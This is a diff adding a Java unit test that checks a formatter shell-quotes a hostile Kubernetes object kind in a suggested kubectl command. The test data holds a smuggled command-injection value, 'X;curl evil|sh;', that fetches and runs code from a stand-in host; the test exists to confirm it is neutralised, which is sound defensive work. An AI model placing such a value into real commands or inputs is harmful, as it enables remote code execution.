@@ -59,6 +59,16 @@ class PlainFindingTest {
                         + " kubectl logs web-1");
     }
 
+    /** The kind of what an event is about is what its writer says. */
+    @Test
+    void quotesAKindAsWell() {
+        ObjectRef hostile = new ObjectRef("v1", "X;curl evil|sh;", "shop", "web", "");
+
+        Finding clean = plain.of(finding.owner(hostile).look("kubectl -n shop events --for x;curl evil|sh;/web"));
+
+        assertThat(clean.look()).isEqualTo("kubectl -n shop events --for 'x;curl evil|sh;'/web");
+    }
+
     /** Nobody checks what stands in an owner reference. */
     @Test
     void keepsNamesOnOneLineAndShowsWhatHidesInThem() {
